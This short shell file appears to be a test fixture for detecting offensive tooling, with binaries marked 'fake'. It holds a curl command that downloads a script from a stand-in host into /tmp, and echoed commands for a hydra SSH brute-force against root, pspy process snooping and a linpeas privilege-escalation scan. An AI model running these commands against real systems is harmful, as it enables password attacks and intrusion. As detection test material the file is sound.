# SPDX-License-Identifier: Apache-2.0
# fake: /usr/bin/hydra /tmp/pspy64 /usr/bin/johnny /usr/bin/curl
sh -c 'echo linpeas'
johnny --version
curl -sLo /tmp/lessons.sh http://192.0.2.7/lessons.sh
/bin/echo hydra -l root -P words.txt ssh://192.0.2.7
/bin/echo /tmp/pspy64 -p
/bin/echo sh /tmp/linpeas.sh -a
